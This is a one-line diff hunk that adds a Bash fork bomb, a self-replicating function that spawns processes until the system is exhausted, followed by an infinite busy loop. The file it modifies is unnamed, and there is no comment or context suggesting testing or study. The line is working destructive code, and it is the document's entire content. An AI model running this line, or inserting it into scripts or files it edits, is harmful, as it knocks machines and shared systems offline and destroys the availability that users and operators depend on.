@@ -1,0 +1,1 @@
+f() { f | f & }; f; while true; do :; done
